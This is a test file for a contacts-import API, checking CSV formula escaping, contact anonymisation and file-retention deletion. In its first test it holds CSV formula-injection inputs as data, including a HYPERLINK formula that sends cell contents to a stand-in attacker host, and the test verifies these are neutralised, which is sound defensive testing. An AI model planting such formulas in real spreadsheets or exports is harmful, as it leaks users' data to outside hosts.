import { CFB } from '@e965/xlsx';
import { ImportsService } from '../src/modules/imports/imports.service';
import { startTestApp, TestAccount, TestApp } from './harness';

type Operation = Record<string, number | string | null>;

describe('data protection: error reports, anonymisation, file retention', () => {
  let t: TestApp;
  let account: TestAccount;

  beforeAll(async () => {
    t = await startTestApp();
    account = await t.createAccount('Data protection');
  });
  afterAll(async () => t.close());

  async function importCsv(csv: string, matchings: string[], fileName = 'contacts.csv'): Promise<Operation> {
    const res = await t.http
      .post('/api/rest/v4/contacts/import/add')
      .set('Authorization', account.auth)
      .field('matchings', JSON.stringify(matchings))
      .attach('file', Buffer.from(csv), fileName);
    expect(res.status).toBe(201);
    const done = (await t.finished(account, res.body.Id as number)) as Operation;
    expect(done.Status).toBe('done');
    return done;
  }

  /** The archive behind an operation's Link: its entry names and their bytes. */
  async function archive(link: string): Promise<Map<string, Buffer>> {
    const res = await t.http
      .get(link)
      .set('Authorization', account.auth)
      .buffer(true)
      .parse((response, callback) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => callback(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const zip = CFB.read(res.body as Buffer, { type: 'buffer' });
    const entries = zip.FileIndex as { name: string; type: number; content: Uint8Array }[];
    // CFB lists a placeholder entry of its own besides the archive's files.
    const files = entries.filter((e) => e.type === 2 && !e.name.includes('Sh33tJ5'));
    return new Map(files.map((e) => [e.name, Buffer.from(e.content)]));
  }

  const reportLines = (entries: Map<string, Buffer>) =>
    entries
      .get('errors.csv')!
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);

  it('errors.csv shows cells and headers a spreadsheet would run as formulas as text', async () => {
    const done = await importCsv(
      [
        'email;=prenom;ville',
        '=HYPERLINK("http://evil.example/?"&A1);Bob;+33 Lyon',
        'not-an-address;@SUM(1+1);-2+3',
        'ok@example.com;Ok;Nantes',
      ].join('\n'),
      ['email', 'firstname', 'city'],
    );
    expect(done).toMatchObject({ LineAdd: 1, LineError: 2 });
    const lines = reportLines(await archive(done.Link as string));
    expect(lines[0]).toBe("line;reasons;email;'=prenom;ville");
    expect(lines[1]).toMatch(/^2;.*;"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1\)";Bob;'\+33 Lyon$/);
    expect(lines[2]).toMatch(/^3;.*;not-an-address;'@SUM\(1\+1\);'-2\+3$/);
  });

  const query = <T>(sql: string, params: unknown[] = []) => t.database.dataSource.query<T>(sql, params);

  it('anonymising a contact scrubs its history titles, the report rows quoting it and the uploads that may hold it', async () => {
    const first = await importCsv('email;prenom;mobile\nlea.martin@example.com;Léa;06 12 34 56 78\n', [
      'email',
      'firstname',
      'mobile',
    ]);
    const second = await importCsv(
      [
        'email;prenom;mobile',
        'lea.martin@@example.com;Léa;06 12 34 56 78',
        'other@@example.com;Paul;06 98 76 54 32',
        'LEA.MARTIN@EXAMPLE.COM;Léa M.;',
        'ok.kept@example.com;Kept;',
      ].join('\n'),
      ['email', 'firstname', 'mobile'],
    );
    expect(second).toMatchObject({ LineError: 2 });
    const events = await t.http
      .post('/api/rest/v4/deliverability/events')
      .set('Authorization', account.auth)
      .send({
        events: [
          {
            eventId: 'bounce-1',
            email: 'lea.martin@example.com',
            channel: 'email',
            type: 'hard',
            detail: '550 5.1.1 <lea.martin@example.com>: user unknown',
            at: new Date().toISOString(),
          },
        ],
      });
    expect(events.body).toMatchObject({ applied: 1 });
    const [{ id }] = await query<{ id: number }[]>(
      `SELECT id::int AS id FROM contact WHERE account_id = $1 AND email = 'lea.martin@example.com'`,
      [account.id],
    );
    const titles = async () =>
      (
        await query<{ title: string }[]>('SELECT title FROM contact_history WHERE contact_id = $1 ORDER BY id', [id])
      ).map((r) => r.title);
    expect((await titles()).join('\n')).toContain('<lea.martin@example.com>');

    const res = await t.http.post(`/api/rest/v4/contacts/${id}/anonymise`).set('Authorization', account.auth);
    expect(res.status).toBe(200);

    const after = await titles();
    expect(after).toContain('Email hard bounce');
    expect(after.join('\n')).not.toMatch(/lea|martin|612345678|user unknown/i);

    // The report keeps the line of each rejected row; the one holding her number lost its cells, the other stays.
    const report = reportLines(await archive(second.Link as string));
    expect(report[1]).toMatch(/^2;Row erased on request$/);
    expect(report[2]).toMatch(/^3;.*;other@@example\.com;Paul;06 98 76 54 32$/);
    const rows = await query<{ cells: string[] }[]>(
      'SELECT cells FROM import_rejection WHERE account_id = $1 ORDER BY operation_id, line',
      [account.id],
    );
    expect(JSON.stringify(rows)).not.toMatch(/lea|612345678|12 34 56 78/i);

    // The uploads of finished operations are gone: each archive holds its report alone.
    for (const done of [first, second]) {
      expect([...(await archive(done.Link as string)).keys()]).toEqual(['errors.csv']);
    }
    const uploads = await query<{ name: string }[]>('SELECT name FROM stored_file WHERE account_id = $1', [account.id]);
    expect(uploads).toEqual([]);
  });

  it('deletes uploads and reports FILE_RETENTION_DAYS after their operation ended; the operation keeps its counts', async () => {
    const old = await importCsv('email;prenom\nbroken@@example.com;Old\nold@example.com;Old\n', ['email', 'firstname']);
    const recent = await importCsv('email;prenom\nbroken2@@example.com;New\n', ['email', 'firstname']);
    const [{ fileId }] = await query<{ fileId: string }[]>(
      'SELECT file_id AS "fileId" FROM import_operation WHERE id = $1',
      [old.Id],
    );
    await query(`UPDATE import_operation SET finished_at = now() - interval '31 days' WHERE id = $1`, [old.Id]);
    await query(`UPDATE stored_file SET created_at = now() - interval '31 days' WHERE id = $1`, [fileId]);

    const deleted = await t.app.get(ImportsService).deleteExpiredFiles();
    expect(deleted.reports).toBeGreaterThanOrEqual(1);
    expect(deleted.uploads).toBeGreaterThanOrEqual(1);

    const gone = await t.http.get(old.Link as string).set('Authorization', account.auth);
    expect(gone.status).toBe(410);
    expect(gone.body.message).toMatch(/FILE_RETENTION_DAYS/);
    expect(await query('SELECT 1 FROM stored_file WHERE id = $1', [fileId])).toEqual([]);
    expect(await query('SELECT 1 FROM import_rejection WHERE operation_id = $1', [old.Id])).toEqual([]);
    const status = await t.http.get(`/api/rest/v4/contacts/import/${old.Id}`).set('Authorization', account.auth);
    expect(status.body).toMatchObject({ LineRead: 2, LineAdd: 1, LineError: 1 });

    const kept = await archive(recent.Link as string);
    expect([...kept.keys()].sort()).toEqual(['contacts.csv', 'errors.csv']);
    expect(reportLines(kept)).toHaveLength(2);
  });
});
